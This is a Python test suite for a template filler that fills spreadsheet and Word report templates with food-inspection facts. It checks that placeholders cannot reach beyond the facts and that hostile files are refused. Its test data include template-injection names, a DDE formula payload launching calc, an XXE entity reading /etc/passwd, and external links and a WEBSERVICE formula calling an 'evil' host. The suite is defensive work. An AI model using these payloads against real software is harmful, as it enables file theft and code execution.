"""Promise: a plant's template is filled with named facts and nothing else: no expression runs, what a fact says is never read
as a template or formula, unknown names are told with their place, and files with macros or links outward do not come in."""

import io

import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.formatting.rule import FormulaRule

from server.domains.reports import office, templates
from server.domains.reports.facts import Company, Item, Lot, Signer, Stamp
from server.domains.reports.facts import TestReport as Report
from server.domains.reports.placeholders import allowed_by
from server.domains.reports.problems import TemplateRefused
from tests.fixtures.office import document, paragraph, parts_of, table_row, with_part, workbook

ALLOWED = allowed_by(Report)
STAMP = Stamp(
    title="出厂检验报告", number="CJ2026-00001", version="1", issued="2026-03-02 10:00", issuer="甲", check_url="https://x/d/1",
    open_url="", facts_digest="0" * 64,
)  # fmt: skip


def item(no: int, name: str = "铅", result: str = "0.012") -> Item:
    return Item(
        no=str(no), name=name, unit="mg/kg", requirement="≤ 0.05", result=result, method="GB 5009.12", verdict="合格"
    )


def report(lot_no: str = "20260301", items: int = 3, name: str = "铅") -> Report:
    return Report(
        company=Company(name="云岭果业", credit_code="91", address="", licences=""),
        lot=Lot(lot_no=lot_no, product="苹果汁", product_code="P1", spec="1 L", brand="", standard="GB/T 31121", quantity="100 kg",
                produced_on="2026-03-01", expires_on="2027-03-01", state="已放行"),
        certificate_no="", tested_on="2026-03-02", report_nos="", items=[item(n, name) for n in range(1, items + 1)],
        conclusion="合格", remarks=["一", "二"], signers=[Signer(role="检验", name="陶", at="")],
    )  # fmt: skip


def fill(data: bytes, facts: Report) -> bytes:
    format, _ = templates.read_template(data, ALLOWED)
    from server.core.ids import new_id

    return templates.fill(templates.Template(new_id(), format, data), facts, STAMP)


def codes(data: bytes) -> list[str]:
    with pytest.raises(TemplateRefused) as refused:
        templates.read_template(data, ALLOWED)
    return [error.code for error in refused.value.errors]


def test_cells_and_repeated_rows_of_a_sheet() -> None:
    rows: list[list[str | None]] = [
        ["检验报告 {{document.number}}", None, None],
        ["批号", "{{lot.lot_no}}", None],
        ["{{#items}}{{no}}", "{{name}}（{{unit}}）", "{{result}}{{/items}}"],
        ["结论", "{{conclusion}}", None],
        ["说明", "{{remarks}}", None],
    ]
    filled = fill(workbook(rows, ("B2:C2", "B4:C4")), report())
    sheet = load_workbook(io.BytesIO(filled)).active
    assert sheet is not None
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["检验报告 CJ2026-00001", None, None],
        ["批号", "20260301", None],
        [1, "铅（mg/kg）", 0.012],
        [2, "铅（mg/kg）", 0.012],
        [3, "铅（mg/kg）", 0.012],
        ["结论", "合格", None],
        ["说明", "一\n二", None],
    ]
    assert sheet["B2"].data_type == "s"  # a lot number of digits stays text
    assert {str(each) for each in sheet.merged_cells.ranges} == {"B2:C2", "B6:C6"}
    assert sheet["A1"].font.bold
    assert fill(GOOD, report()) == fill(GOOD, report())


def test_texts_that_cells_share_are_filled_cell_by_cell() -> None:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    sheet = book.add_worksheet()
    sheet.write_rich_string(0, 0, book.add_format({"bold": True}), "批号 {{lot.", "lot_no}}")
    for row in (1, 2):
        sheet.write_string(row, 0, "{{lot.spec}}")
    sheet.write_string(3, 0, "无")
    book.close()
    assert "xl/sharedStrings.xml" in parts_of(out.getvalue())
    filled = fill(out.getvalue(), report())
    assert b"{{" not in b"".join(parts_of(filled).values())
    found = load_workbook(io.BytesIO(filled)).active
    assert found is not None
    assert [row[0].value for row in found.iter_rows()] == ["批号 20260301", "1 L", "1 L", "无"]


def test_a_result_alone_in_its_cell_is_a_number() -> None:
    rows = [["{{#items}}", "{{result}}", "{{/items}}"]]
    sheet = load_workbook(io.BytesIO(fill(workbook(rows), report(items=1)))).active
    assert sheet is not None
    assert (sheet["B1"].value, sheet["B1"].data_type) == (0.012, "n")


def test_a_result_keeps_its_decimals_in_a_style_of_its_own() -> None:
    rows = [["{{#items}}", "{{result}}", "{{/items}}"]]
    said = ("0.30", "0.3", "1.500", "0.30", "12")
    facts = report().model_copy(update={"items": [item(n, result=each) for n, each in enumerate(said, 1)]})
    sheet = load_workbook(io.BytesIO(fill(workbook(rows), facts))).active
    assert sheet is not None
    cells = [row[1] for row in sheet.iter_rows()]
    assert [(each.value, each.number_format) for each in cells] == [
        (0.3, "0.00"), (0.3, "General"), (1.5, "0.000"), (0.3, "0.00"), (12, "General")
    ]  # fmt: skip
    assert [each.font.name for each in cells] == [cells[0].font.name] * 5


def test_a_format_of_the_plants_own_stays() -> None:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    book.add_worksheet().write_row(
        0, 0, ["{{#items}}{{no}}", "{{result}}", "{{/items}}"], book.add_format({"num_format": "0.0000"})
    )
    book.close()
    facts = report().model_copy(update={"items": [item(1, result="0.30")]})
    sheet = load_workbook(io.BytesIO(fill(out.getvalue(), facts))).active
    assert sheet is not None
    assert sheet["B1"].number_format == "0.0000"


def test_heads_and_feet_of_pages() -> None:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    sheet = book.add_worksheet()
    sheet.write_string(0, 0, "{{lot.product}}")
    sheet.set_header("&L{{lot.lot_no}}&C{{document.title}}&R&8{{lot.quantity}}")
    sheet.set_footer("&R{{document.number}} &P/&N")
    book.close()
    found = load_workbook(io.BytesIO(fill(out.getvalue(), report(lot_no="A&B")))).active
    assert found is not None
    assert (found.oddHeader.left.text, found.oddHeader.center.text) == ("A&&B", "出厂检验报告")
    assert found.oddHeader.right.text == "100 kg"
    assert found.oddFooter.right.text == "CJ2026-00001 &P/&N"


def test_an_empty_list_leaves_one_empty_row() -> None:
    sheet = load_workbook(
        io.BytesIO(fill(workbook([["{{#items}}{{name}}{{/items}}"], ["末"]]), report(items=0)))
    ).active
    assert sheet is not None
    assert [row[0].value for row in sheet.iter_rows()] in ([None, "末"], ["", "末"])


def test_paragraphs_and_table_rows_of_a_document() -> None:
    body = (
        paragraph("批号 {{lot.", "lot_no", "}} 完")  # as Word splits what was typed with pauses
        + "<w:tbl>" + table_row("{{#items}}{{no}}", "{{name}} {{result}}{{/items}}") + "</w:tbl>" + paragraph("{{remarks}}")
    )  # fmt: skip
    xml = parts_of(fill(document(body), report(items=2)))["word/document.xml"].decode()
    plain = "".join(office.parse(xml.encode()).itertext())
    assert plain == "批号 20260301 完1铅 0.0122铅 0.012一二"
    assert xml.count("<w:tr>") == 2
    assert "<w:br/>" in xml
    assert "<w:b/>" in xml


HOSTILE = [
    "{{lot.__class__}}", "{{lot.lot_no.upper}}", "{{document.__init__}}", "{{config}}", "{{items}}", "{{#lot}}", "{{parent.name}}",
    "{{company.tenant_id}}",
]  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_no_name_reaches_beyond_the_facts(name: str) -> None:
    assert codes(workbook([["x", name]])) == ["template_placeholder_unknown"]
    assert codes(document(paragraph(name))) == ["template_placeholder_unknown"]


def test_every_unknown_name_is_told_with_its_place() -> None:
    with pytest.raises(TemplateRefused) as refused:
        templates.read_template(workbook([["{{lot.lot_no}}", "{{lot.number}}"], ["{{nobody}}"]]), ALLOWED)
    found = [(error.params["name"], error.params["where"]) for error in refused.value.errors]
    assert found == [("lot.number", "sheet1!B1"), ("nobody", "sheet1!A2")]


@pytest.mark.parametrize(
    "text", ["{{ 7*7 }}", "{% for x in y %}{{lot.lot_no}}", "{{lot.lot_no|upper}}", "{{lot.lot_no"]
)
def test_expressions_are_no_placeholders(text: str) -> None:
    for data in (workbook([[text, "{{lot.spec}}"]]), document(paragraph(text) + paragraph("{{lot.spec}}"))):
        if "{%" in text:  # nobody here reads it: it stays as it was typed
            assert b"{% for x in y %}20260301" in b"".join(parts_of(fill(data, report())).values())
        else:
            assert codes(data) == ["template_placeholder_elsewhere"]


@settings(derandomize=True, deadline=None, max_examples=60)
@given(
    st.text(min_size=1, max_size=40)
    | st.sampled_from(["{{company.name}}", "=1+1", "=cmd|' /C calc'!A0", "<w:t>", "]]>", "&amp;"])
)
def test_what_a_fact_says_is_text_and_is_never_read_again(said: str) -> None:
    filled = fill(workbook([["{{lot.lot_no}}"]]), report(lot_no=said))
    cell = load_workbook(io.BytesIO(filled)).active["A1"]
    expected = "".join(c if c.isprintable() or c == "\n" else " " for c in said)
    assert cell.data_type == "s" or expected.strip() == ""
    assert (cell.value or "") == expected
    xml = parts_of(fill(document(paragraph("{{lot.lot_no}}")), report(lot_no=said)))["word/document.xml"]
    assert "".join(office.parse(xml).itertext()) == expected.replace("\n", "")


GOOD = workbook([["{{lot.lot_no}}"]])
MACROS = b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
OUTWARD = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'TargetMode="External" Type="http://x/attachedTemplate" Target="http://evil/"/></Relationships>'
)
ENTITY = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
FIELD = paragraph("{{lot.lot_no}}") + "<w:p><w:r><w:instrText>INCLUDETEXT \\\\evil\\x</w:instrText></w:r></w:p>"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"%PDF-1.7", "template_not_office"),
        (b"PK\x03\x04 nothing", "template_broken"),
        (b"PK\x03\x04" + b"0" * office.MOST_BYTES, "template_too_large"),
        (with_part(GOOD, "xl/vbaProject.bin", b"x"), "template_active_content"),
        (with_part(GOOD, "[Content_Types].xml", MACROS), "template_active_content"),
        (with_part(GOOD, "xl/embeddings/oleObject1.bin", b"x"), "template_active_content"),
        (with_part(GOOD, "xl/externalLinks/externalLink1.xml", b"<a/>"), "template_active_content"),
        (with_part(GOOD, "xl/_rels/more.xml.rels", OUTWARD), "template_reaches_out"),
        (with_part(GOOD, "docProps/more.xml", ENTITY), "template_broken"),
        (with_part(GOOD, "xl/big.xml", b"0" * (13 * 1024 * 1024)), "template_unpacks_too_large"),
        (document(FIELD), "template_reaches_out"),
        (workbook([["{{lot.lot_no}}", '=WEBSERVICE("http://evil/")']]), "template_reaches_out"),
        (workbook([["无"]]), "template_without_placeholders"),
        (workbook([["{{#items}}{{no}}"]]), "template_list_not_of_one_row"),
        (workbook([["{{#items}}{{no}}"], ["x{{/items}}"]]), "template_list_not_of_one_row"),
        (workbook([["{{lot.lot_no}}{{/items}}"]]), "template_list_not_of_one_row"),
        (workbook([["{{#items}}{{no}}", "{{#signers}}{{/signers}}{{/items}}"]]), "template_list_not_of_one_row"),
        (document(paragraph("{{#items}}{{lot.lot_no}}{{/items}}")), "template_list_not_of_one_row"),
        (
            document("<w:tbl>" + table_row("{{#items}}{{no}}") + table_row("{{/items}}") + "</w:tbl>"),
            "template_list_not_of_one_row",
        ),
        (workbook([["{{#items}}{{no}}{{/items}}"], ["=A1*2"]]), "template_formula_one_of_rows"),
        (workbook([["{{#items}}{{no}}{{/items}}"], ["=SUM(Total)"]]), "template_formula_unreadable"),
        (workbook([["{{#items}}{{no}}{{/items}}"], ["=SUM(1:1)"]]), "template_formula_unreadable"),
    ],
    ids=lambda given: given if isinstance(given, str) else "file",  # the bytes tell the second they were made in
)
def test_what_does_not_come_in(data: bytes, code: str) -> None:
    assert codes(data) == [code]


def test_formulas_move_with_their_rows_and_sums_grow() -> None:
    """Read by LibreOffice's rules in spirit: each formula names the cells where its numbers stand now."""
    rows: list[list[str | None]] = [
        ["检验", "{{lot.lot_no}}", "=C3", "=SUM(Other!B2)"],
        ["{{#items}}{{no}}", "{{result}}{{/items}}", "=B2*C$1+A1", "=C2/C$4"],
        ["合计", "=SUM(B2:B2)", "=AVERAGE(B2)", '=IF(B3>0,"A2 是文字",COUNTA($A$1:$A$2))'],
        ["下面", "=B3+C3", "=MAX(B1:B3)", "=SUM(B:B)"],
    ]
    book = load_workbook(io.BytesIO(workbook(rows)))
    other = book.create_sheet("Other")
    other.append(["=Sheet!B3"])
    other.append([None, "{{#signers}}{{name}}{{/signers}}"])
    out = io.BytesIO()
    book.save(out)
    filled = load_workbook(io.BytesIO(fill(out.getvalue(), report(items=3))))
    sheet = filled["Sheet"]
    assert [[cell.value for cell in row][1:] for row in sheet.iter_rows()] == [
        ["20260301", "=C5", "=SUM(Other!B2)"],
        [0.012, "=B2*C$1+A1", "=C2/C$6"],
        [0.012, "=B3*C$1+A2", "=C3/C$6"],
        [0.012, "=B4*C$1+A3", "=C4/C$6"],
        ["=SUM(B2:B4)", "=AVERAGE(B2:B4)", '=IF(B5>0,"A2 是文字",COUNTA($A$1:$A$4))'],
        ["=B5+C5", "=MAX(B1:B5)", "=SUM(B:B)"],
    ]
    assert filled["Other"]["A1"].value == "=Sheet!B5"
    assert filled.calculation.fullCalcOnLoad


def test_a_rule_for_one_cell_of_a_repeated_row_holds_in_each_copy() -> None:
    book = load_workbook(io.BytesIO(workbook([["检验"], ["{{#items}}{{no}}", "{{verdict}}{{/items}}"], ["合计"]])))
    sheet = book["Sheet"]
    sheet.conditional_formatting.add("B2", FormulaRule(formula=['B2="不合格"'], stopIfTrue=True))
    sheet.conditional_formatting.add("A3", FormulaRule(formula=["A3>1"]))
    out = io.BytesIO()
    book.save(out)
    filled = load_workbook(io.BytesIO(fill(out.getvalue(), report(items=3))))["Sheet"]
    assert {str(each.sqref) for each in filled.conditional_formatting} == {"B2:B4", "A5"}


def test_shared_formulas_are_written_out() -> None:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    page = book.add_worksheet("Sheet")
    page.write_string("A1", "{{#items}}{{no}}{{/items}}")
    for row in (1, 2, 3):
        page.write_formula(row, 1, f"=C{row + 1}*$D$9", None, 7)
    book.close()
    parts = parts_of(out.getvalue())
    name = "xl/worksheets/sheet1.xml"
    shared = parts[name].replace(b"<f>C2*$D$9</f>", b'<f t="shared" ref="B2:B4" si="0">C2*$D$9</f>')
    for row in (b"3", b"4"):
        shared = shared.replace(b"<f>C" + row + b"*$D$9</f>", b'<f t="shared" si="0"/>')
    filled = parts_of(fill(with_part(out.getvalue(), name, shared), report(items=3)))[name]
    assert [each.split(b"</f>")[0] for each in filled.split(b"<f>")[1:]] == [b"C4*$D$11", b"C5*$D$11", b"C6*$D$11"]
    assert b"<v>7</v>" not in filled  # what it came to in the template


def test_formulas_that_stay_where_they_are_keep_working() -> None:
    sheet = load_workbook(io.BytesIO(fill(workbook([["{{lot.lot_no}}", "=1+1"]]), report()))).active
    assert sheet is not None
    assert sheet["B1"].value == "=1+1"


def test_a_print_area_grows_with_its_rows() -> None:
    body = io.BytesIO()
    with xlsxwriter.Workbook(body, {"in_memory": True}) as book:
        for name in ("报告 1", "附页"):
            sheet = book.add_worksheet(name)
            sheet.write_row(0, 0, ["{{document.number}}"])
            if name == "报告 1":
                sheet.write_row(1, 0, ["{{#items}}{{no}}", "{{result}}{{/items}}"])
                sheet.write_row(2, 0, ["结论", "{{conclusion}}"])
            sheet.print_area("A1:B3")
    book = load_workbook(io.BytesIO(fill(body.getvalue(), report())))
    assert [sheet.print_area for sheet in book] == ["'报告 1'!$A$1:$B$5", "'附页'!$A$1:$B$3"]
